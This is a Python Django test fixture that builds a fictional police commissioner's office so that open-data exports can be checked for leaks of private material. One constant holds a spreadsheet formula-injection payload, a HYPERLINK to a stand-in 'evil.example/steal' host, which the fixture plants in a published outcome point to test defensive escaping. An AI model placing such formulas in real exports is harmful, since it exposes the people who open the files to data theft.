"""A small, realistic office with something in every open dataset, and things that must never
be in one: a private engagement, an analysed but unpublished consultation, an unpublished
decision, a draft "you said, we did" page, and what residents said in their own words."""

from __future__ import annotations

import datetime as dt
import secrets
from dataclasses import dataclass
from zoneinfo import ZoneInfo

from django.utils import timezone

from engage.accounts.models import User
from engage.consultations.models import Consultation, Status
from engage.consultations.tests.result_fixture import (
    build_consultation,
    finished_analysis,
    themes_for,
)
from engage.core.models import Office
from engage.decisions import outcomes
from engage.decisions.models import Decision, DecisionKind, Evidence, EvidenceKind, Outcome
from engage.engagements.models import Activity, Concern, ConcernSource, ConcernTheme
from engage.places.models import Area, AreaKind

LONDON = ZoneInfo("Europe/London")
# What a resident said, their details, and staff's private notes: never in any open data.
PRIVATE = [
    "Cars speed past the school every morning",
    "Sam Resident",
    "sam@example.org",
    "Councillor Smith was rude to the chair",
    "Chief Constable's briefing",
    "Rural crime partnership fund",
    "Speeding on the estates",
    "We never see a police officer in our village any more.",
    "resident0@example.org",
    "Olivia",
]
# The said of a point an officer pasted from a spreadsheet: a formula if opened unguarded.
FORMULA = '=HYPERLINK("http://evil.example/steal","More patrols")'


def at(days: int, hour: int = 10) -> dt.datetime:
    day = timezone.localdate() + dt.timedelta(days=days)
    return dt.datetime.combine(day, dt.time(hour), tzinfo=LONDON)


@dataclass
class OfficeData:
    office: Office
    consultation: Consultation
    unpublished_consultation: Consultation
    decision: Decision
    unpublished_decision: Decision
    outcome: Outcome
    draft_outcome: Outcome
    past_activity: Activity


def _activity(office: Office, title: str, days: int, lead: User, **fields: object) -> Activity:
    return Activity.objects.create(
        office=office,
        title=title,
        type="visit",
        starts_at=at(days, 18),
        ends_at=at(days, 20),
        lead=lead,
        location=fields.pop("location", "Brownsover Community Centre"),
        in_public_diary=fields.pop("in_public_diary", True),
        feedback_token=secrets.token_urlsafe(16),
        **fields,  # type: ignore[arg-type]
    )


def build_office_data(office: Office, *, officer: User, commissioner: User) -> OfficeData:
    rugby = Area.objects.create(
        office=office, kind=AreaKind.DISTRICT, name="Rugby", ons_code="E07000220"
    )
    brownsover = Area.objects.create(
        office=office, kind=AreaKind.FORUM_AREA, name="Brownsover", parent=rugby
    )
    speeding = ConcernTheme.objects.create(office=office, name="Road safety and speeding")
    visibility = ConcernTheme.objects.create(office=office, name="Police visibility")

    # The diary: a public meeting last month, a visit next week, and a private briefing.
    past = _activity(
        office,
        "Public meeting on speeding",
        -20,
        commissioner,
        area=rugby,
        people_reached=41,
        public_summary="Residents asked for speed checks on Hillmorton Road.",
        public_summary_cy="Gofynnodd trigolion am wiriadau cyflymder ar Heol Hillmorton.",
        notes="Councillor Smith was rude to the chair.",
        cost=120,
    )
    Concern.objects.create(
        office=office,
        summary="Cars speed past the school every morning",
        theme=speeding,
        source=ConcernSource.ACTIVITY,
        raised_on=timezone.localdate() - dt.timedelta(days=20),
        people=3,
        activity=past,
        contact_name="Sam Resident",
        contact_email="sam@example.org",
    )
    _activity(
        office,
        "Visit to Brownsover youth club",
        6,
        commissioner,
        area=brownsover,
        title_cy="Ymweliad â chlwb ieuenctid Brownsover",
    )
    _activity(office, "Chief Constable's briefing", 3, commissioner, in_public_diary=False)

    # Consultations: the precept's results published (road safety chosen by 8 people, a theme
    # of 7 answers); a survey analysed but not published.
    consultation = build_consultation(office, status=Status.PUBLISHED)
    themes_for(consultation)
    finished_analysis(consultation)
    unpublished = build_consultation(
        office, status=Status.ANALYSED, slug="unpublished-survey", with_areas=False
    )
    Consultation.objects.filter(pk=unpublished.pk).update(title="An unpublished survey")
    finished_analysis(unpublished)

    # Decisions: the precept, published, on the consultation and concerns; a funding award not.
    decision = Decision.objects.create(
        office=office,
        reference="PCC/2026/014",
        slug="pcc-2026-014",
        title="Policing precept 2027/28",
        title_cy="Praesept plismona 2027/28",
        decided_on=dt.date(2026, 2, 24),
        kind=DecisionKind.PRECEPT,
        summary="The Band D policing precept rises by £14 a year, to £297.59.",
        published_at=timezone.now(),
    )
    Concern.objects.create(
        office=office,
        summary="Nobody patrols the estate.",
        theme=visibility,
        source=ConcernSource.FORUM_REPORT,
        raised_on=dt.date(2025, 12, 1),
        people=14,
        contact_name="Olivia Other",
    )
    Evidence.objects.create(
        office=office, decision=decision, kind=EvidenceKind.CONSULTATION, consultation=consultation
    )
    Evidence.objects.create(
        office=office,
        decision=decision,
        kind=EvidenceKind.CONCERN_THEME,
        concern_theme=visibility,
    )
    unpublished_decision = Decision.objects.create(
        office=office,
        reference="PCC/2026/019",
        slug="pcc-2026-019",
        title="Rural crime partnership fund 2027",
        decided_on=dt.date(2026, 3, 1),
        kind=DecisionKind.COMMISSIONING,
        summary="£40,000 for farm watch schemes.",
    )

    # "You said, we did": the precept's page published, its first point pasted from a
    # spreadsheet; a page on speeding still a draft.
    outcome = outcomes.draft_outcome_for_consultation(consultation, by=officer)
    outcomes.update_outcome(
        outcome,
        we_did="The Commissioner set the precept at £14 more a year.",
        by=officer,
    )
    first, *others = outcome.points.order_by("position", "pk")
    outcomes.update_point(
        first, decision=decision, response="Twelve more PCSOs on foot.", by=officer
    )
    first.said = FORMULA
    first.save()
    for point in others:
        outcomes.update_point(point, response="One of the things we weighed up.", by=officer)
    outcomes.publish_outcome(outcome, by=officer)
    draft = Outcome.objects.create(
        office=office,
        slug="speeding",
        concern_theme=speeding,
        title="Speeding on the estates: you said, we did",
        we_asked="What worries you where you live?",
        you_said="People raised speeding on the estates.",
    )
    return OfficeData(
        office=office,
        consultation=consultation,
        unpublished_consultation=unpublished,
        decision=decision,
        unpublished_decision=unpublished_decision,
        outcome=outcome,
        draft_outcome=draft,
        past_activity=past,
    )
